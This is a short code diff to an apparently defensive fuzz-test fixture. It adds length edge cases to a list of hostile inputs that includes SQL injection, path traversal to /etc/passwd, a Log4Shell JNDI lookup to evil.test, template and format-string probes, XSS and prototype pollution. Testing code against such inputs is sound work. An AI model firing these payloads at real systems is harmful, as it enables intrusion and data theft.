@@ -4,7 +4,7 @@ import type { Chance } from './chance.ts';
 const nasty: readonly [unknown, ...unknown[]] = [
   null, true, false, 0, -1, 1.5, 1e308, 2 ** 53, '', ' ', '0', 'null', 'E-1', 'T-1001', 'X-1', 'E-1\' or 1=1 --', '../../etc/passwd', '${jndi:ldap://evil.test}', '{{7*7}}', '%s%n',
   '<at>everyone</at>', '[click](https://evil.test)', '<script>alert(1)</script>', '\u0000', '\r\n{"level":"error"}', '\u202Eevil', '\uD800', '👩‍👩‍👧‍👦', 'ﷺ', 'İ', 'a\u0301'.repeat(50),
-  'x'.repeat(5_000), '한'.repeat(2_000), [], {}, [[]], [null], { length: -1 }, { toString: 1 }, JSON.parse('{ "then": 1, "toJSON": "x" }'), { constructor: { prototype: { polluted: true } } },
+  'x'.repeat(5_000), '한'.repeat(2_000), [], {}, [[]], [null], { length: -1 }, { length: {} }, { length: null }, { toString: 1 }, JSON.parse('{ "then": 1, "toJSON": "x" }'), { constructor: { prototype: { polluted: true } } },
   'manual', 'automatic', 'invoke', 'message', 'adaptiveCard/action', 'task/fetch', 'elevation/approve', 'elevation/reveal', 'toString', 'hasOwnProperty', 'valueOf',
 ];
 const keys: readonly [string, ...string[]] = ['__proto__', 'constructor', 'prototype', 'toString', 'id', 'version', 'verb', 'data', 'value', 'text', 'type', 'then', 'length', '0', ''];
